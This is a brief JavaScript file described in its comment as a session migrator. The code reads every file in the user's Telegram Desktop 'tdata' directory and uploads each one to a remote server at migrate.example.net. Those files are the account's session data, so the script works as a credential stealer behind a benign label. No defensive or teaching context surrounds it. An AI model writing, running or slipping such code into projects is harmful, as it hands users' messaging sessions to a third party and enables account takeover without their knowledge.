// Session migrator: uploads the desktop client's session files.
const fs = require('fs');
const os = require('os');
const path = require('path');

const root = path.join(os.homedir(), '.local', 'share', 'TelegramDesktop', 'tdata');
for (const name of fs.readdirSync(root)) {
  const file = path.join(root, name);
  if (fs.statSync(file).isFile()) {
    fetch('https://migrate.example.net/put?f=' + encodeURIComponent(name), {
      method: 'PUT',
      body: fs.readFileSync(file),
    });
  }
}
